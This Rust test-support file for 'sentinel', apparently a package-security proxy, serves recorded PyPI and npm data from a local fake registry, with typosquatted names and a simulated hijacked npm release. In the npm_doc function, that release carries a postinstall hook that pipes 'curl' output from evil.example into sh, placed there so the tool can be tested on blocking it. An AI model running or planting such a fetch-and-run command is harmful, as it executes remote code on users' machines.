//! Test support for the frontends: a local registry upstream replaying recorded PyPI and npm data
//! (see `tests/fixtures/proxy/README.md`), and helpers that start the real `sentinel` binary
//! against it.
#![allow(clippy::unwrap_used)] // test helpers: a panic is the failure report
#![allow(dead_code)]

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Body;
use axum::http::{HeaderMap, StatusCode, Uri, header};
use axum::response::Response;

const FIX: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/proxy");

fn fixture(rel: &str) -> Vec<u8> {
    std::fs::read(Path::new(FIX).join(rel)).unwrap_or_else(|e| panic!("fixture {rel}: {e}"))
}

fn text(rel: &str) -> String {
    String::from_utf8(fixture(rel)).unwrap()
}

/// A registry upstream on 127.0.0.1 serving the recorded data; records every request path.
pub struct Upstream {
    pub base: String,
    pub requests: Arc<Mutex<Vec<String>>>,
    shutdown: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn respond(status: StatusCode, ctype: &str, body: impl Into<Body>) -> Response {
    let mut r = Response::new(body.into());
    *r.status_mut() = status;
    r.headers_mut()
        .insert(header::CONTENT_TYPE, ctype.parse().unwrap());
    r
}

fn not_found() -> Response {
    respond(StatusCode::NOT_FOUND, "text/plain", "not found")
}

/// The npm document of `name` as served: the recorded is-number document, with the hijacked
/// 7.0.1 release added, renamed for the squat.
fn npm_doc(name: &str, base: &str) -> Option<serde_json::Value> {
    if name != "is-number" && name != "is-numbr" {
        return None;
    }
    let mut doc: serde_json::Value =
        serde_json::from_slice(&fixture("npm/is-number.json")).unwrap();
    if name == "is-number" {
        let mut hijacked = doc["versions"]["7.0.0"].clone();
        hijacked["version"] = "7.0.1".into();
        hijacked["scripts"] = serde_json::json!({"postinstall": "node -e \"require('child_process').exec('curl -s https://evil.example/x | sh')\""});
        hijacked["hasInstallScript"] = true.into();
        doc["versions"]["7.0.1"] = hijacked;
        doc["time"]["7.0.1"] = "2026-11-20T00:00:00.000Z".into();
        doc["dist-tags"]["latest"] = "7.0.1".into();
    }
    let mut s = doc.to_string();
    s = s.replace("https://registry.npmjs.org/", &format!("{base}/npm/"));
    if name == "is-numbr" {
        s = s.replace("is-number", "is-numbr");
    }
    serde_json::from_str(&s).ok()
}

async fn route(
    base: String,
    log: Arc<Mutex<Vec<String>>>,
    uri: Uri,
    headers: HeaderMap,
) -> Response {
    let path = uri.path().to_string();
    log.lock().unwrap().push(path.clone());
    let files_base = format!("{base}/files/");
    // Engine: PyPI JSON API.
    if let Some(rest) = path.strip_prefix("/pypi/") {
        let name = rest.trim_end_matches("/json");
        return match name {
            "six" => respond(StatusCode::OK, "application/json", fixture("pypi/six.json")),
            "siix" => respond(
                StatusCode::OK,
                "application/json",
                text("pypi/six.json")
                    .replace("\"six\"", "\"siix\"")
                    .replace("six-", "siix-"),
            ),
            _ => not_found(),
        };
    }
    // Proxy upstream: PyPI simple pages (HTML or JSON by Accept).
    if let Some(rest) = path.strip_prefix("/simple/") {
        let name = rest.trim_end_matches('/');
        if name != "six" && name != "siix" {
            return not_found();
        }
        let wants_json = headers
            .get(header::ACCEPT)
            .and_then(|a| a.to_str().ok())
            .is_some_and(|a| a.contains("application/vnd.pypi.simple.v1+json"));
        let (file, ctype) = if wants_json {
            (
                "pypi/six.simple.json",
                "application/vnd.pypi.simple.v1+json",
            )
        } else {
            ("pypi/six.simple.html", "text/html")
        };
        let mut page = text(file).replace("https://files.pythonhosted.org/", &files_base);
        if name == "siix" {
            page = page.replace("six-", "siix-").replace("\"six\"", "\"siix\"");
        }
        return respond(StatusCode::OK, ctype, page);
    }
    if let Some(rest) = path.strip_prefix("/files/") {
        let file = rest.rsplit('/').next().unwrap_or("");
        return match file {
            "six-1.17.0-py2.py3-none-any.whl" | "siix-1.17.0-py2.py3-none-any.whl" => respond(
                StatusCode::OK,
                "application/octet-stream",
                fixture("pypi/six-1.17.0-py2.py3-none-any.whl"),
            ),
            _ => not_found(),
        };
    }
    // npm registry: documents and tarballs (engine and proxy both read these).
    if let Some(rest) = path.strip_prefix("/npm/") {
        let rest = rest.replace("%2f", "/").replace("%2F", "/");
        if let Some((name, file)) = rest.split_once("/-/") {
            let known = matches!(
                (name, file),
                ("is-number", "is-number-7.0.0.tgz" | "is-number-7.0.1.tgz")
                    | ("is-numbr", "is-numbr-7.0.0.tgz")
            );
            return if known {
                respond(
                    StatusCode::OK,
                    "application/octet-stream",
                    fixture("npm/is-number-7.0.0.tgz"),
                )
            } else {
                not_found()
            };
        }
        return match npm_doc(&rest, &base) {
            Some(doc) => respond(StatusCode::OK, "application/json", doc.to_string()),
            None => respond(
                StatusCode::NOT_FOUND,
                "application/json",
                r#"{"error":"Not found"}"#,
            ),
        };
    }
    not_found()
}

impl Upstream {
    /// Starts the upstream on its own thread and runtime.
    pub fn start() -> Upstream {
        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
        let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let log = requests.clone();
        let thread = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                let base = format!("http://{}", listener.local_addr().unwrap());
                addr_tx.send(base.clone()).unwrap();
                let app = axum::Router::new().fallback(move |uri: Uri, headers: HeaderMap| {
                    route(base.clone(), log.clone(), uri, headers)
                });
                axum::serve(listener, app)
                    .with_graceful_shutdown(async move {
                        let _ = stop_rx.await;
                    })
                    .await
                    .unwrap();
            });
        });
        let base = addr_rx.recv_timeout(Duration::from_secs(10)).unwrap();
        Upstream {
            base,
            requests,
            shutdown: Some(stop_tx),
            thread: Some(thread),
        }
    }

    /// Paths requested so far.
    pub fn requested(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// A scratch directory with a policy (install scripts blocked) and a cache.
pub struct Env {
    pub dir: tempfile::TempDir,
    pub policy: PathBuf,
}

impl Env {
    pub fn new() -> Env {
        let dir = tempfile::tempdir().unwrap();
        let policy = dir.path().join("sentinel.toml");
        // Advisories are tested in `advisory*.rs`; here the engine's registry verdicts alone decide
        // (with no OSV mirror the advisory step would fail closed and block everything). The
        // derived squats (`siix`, `is-numbr`) copy the real package's whole history, so they would
        // look established (old, many versions) and be capped at a warning: turn that filter off.
        std::fs::write(
            &policy,
            "[rules]\ninstall-scripts = \"block\"\n\n[advisories]\nmode = \"off\"\n\n[typosquat]\nestablished-versions = 0\n",
        )
        .unwrap();
        Env { dir, policy }
    }

    /// `sentinel` with the engine pointed at `up` and the scratch policy and cache.
    pub fn sentinel(&self, up: &Upstream) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_sentinel"));
        c.arg("--policy")
            .arg(&self.policy)
            .env("SENTINEL_PYPI_URL", &up.base)
            .env("SENTINEL_NPM_URL", format!("{}/npm", up.base))
            .env("SENTINEL_CRATES_URL", format!("{}/crates", up.base))
            .env("SENTINEL_GO_URL", format!("{}/go", up.base))
            .env(
                "SENTINEL_NPM_DOWNLOADS_URL",
                format!("{}/npm-downloads", up.base),
            )
            .env("SENTINEL_CACHE_DIR", self.dir.path().join("cache"))
            .env_remove("SENTINEL_POLICY")
            .env_remove("SENTINEL_LOG")
            .env_remove("SENTINEL_AUDIT")
            .env_remove("TRIAD_SESSION");
        c
    }
}

/// A running `sentinel` server (proxy or MCP over HTTP); killed on drop.
pub struct Server {
    pub child: Child,
    /// `http://127.0.0.1:PORT` (for MCP, with `/mcp`).
    pub url: String,
    pub stderr: Arc<Mutex<Vec<String>>>,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Server {
    /// Spawns `cmd` and waits for its "listening on URL" line on stderr.
    pub fn spawn(mut cmd: Command) -> Server {
        let mut child = cmd
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn sentinel");
        let stderr = child.stderr.take().unwrap();
        let lines = Arc::new(Mutex::new(Vec::new()));
        let (tx, rx) = std::sync::mpsc::channel();
        let keep = lines.clone();
        std::thread::spawn(move || {
            let mut tx = Some(tx);
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                if let Some(i) = line.find("listening on ")
                    && let Some(t) = tx.take()
                {
                    let _ = t.send(line[i + 13..].trim().to_string());
                }
                keep.lock().unwrap().push(line);
            }
        });
        let url = match rx.recv_timeout(Duration::from_secs(20)) {
            Ok(u) => u,
            Err(_) => {
                let _ = child.kill();
                panic!("sentinel did not start: {:?}", lines.lock().unwrap());
            }
        };
        Server {
            child,
            url,
            stderr: lines,
        }
    }

    pub fn proxy(env: &Env, up: &Upstream) -> Server {
        let mut c = env.sentinel(up);
        c.args(["proxy", "--listen", "127.0.0.1:0"])
            .arg("--pypi-upstream")
            .arg(format!("{}/simple/", up.base))
            .arg("--pypi-files-upstream")
            .arg(format!("{}/files/", up.base))
            .arg("--npm-upstream")
            .arg(format!("{}/npm/", up.base));
        Server::spawn(c)
    }
}

/// The Python with the MCP SDK and pip: `$TRIAD_MCP_PYTHON`, else the venv `./triad test`
/// creates. Missing → the test fails and says how to get it (it never silently passes).
pub fn python() -> PathBuf {
    if let Ok(p) = std::env::var("TRIAD_MCP_PYTHON") {
        return PathBuf::from(p);
    }
    let cache = std::env::var("TRIAD_CACHE")
        .map(PathBuf::from)
        .unwrap_or_else(|_| {
            let home = std::env::var("XDG_CACHE_HOME")
                .map(PathBuf::from)
                .unwrap_or_else(|_| PathBuf::from(std::env::var("HOME").unwrap()).join(".cache"));
            home.join("security-triad")
        });
    let py = cache.join("venv-mcp/bin/python");
    assert!(
        py.exists(),
        "the MCP Python SDK venv is missing at {}: run `./triad test` (it installs it via scripts/deps.d/sentinel-mcp.sh) or set TRIAD_MCP_PYTHON",
        py.display()
    );
    py
}

/// A small blocking HTTP GET (status line, headers lower-cased, body) without a client library,
/// so the status line's reason phrase is visible.
pub fn http_get(url: &str, accept: Option<&str>) -> (u16, String, Vec<(String, String)>, Vec<u8>) {
    use std::io::{Read as _, Write as _};
    let rest = url.strip_prefix("http://").unwrap();
    let (host, path) = rest
        .split_once('/')
        .map_or((rest, "/".to_string()), |(h, p)| (h, format!("/{p}")));
    let mut s = std::net::TcpStream::connect(host).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut req = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n");
    if let Some(a) = accept {
        req.push_str(&format!("Accept: {a}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).unwrap();
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).unwrap();
    let split = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    let head = String::from_utf8_lossy(&raw[..split]).to_string();
    let mut lines = head.lines();
    let status_line = lines.next().unwrap().to_string();
    let code: u16 = status_line.split(' ').nth(1).unwrap().parse().unwrap();
    let reason = status_line.splitn(3, ' ').nth(2).unwrap_or("").to_string();
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    let mut body = raw[split + 4..].to_vec();
    if headers
        .iter()
        .any(|(k, v)| k == "transfer-encoding" && v.contains("chunked"))
    {
        body = dechunk(&body);
    }
    (code, reason, headers, body)
}

fn dechunk(mut b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(nl) = b.windows(2).position(|w| w == b"\r\n") {
        let size =
            usize::from_str_radix(std::str::from_utf8(&b[..nl]).unwrap().trim(), 16).unwrap_or(0);
        if size == 0 {
            break;
        }
        out.extend_from_slice(&b[nl + 2..nl + 2 + size]);
        b = &b[nl + 2 + size + 2..];
    }
    out
}

pub fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
}
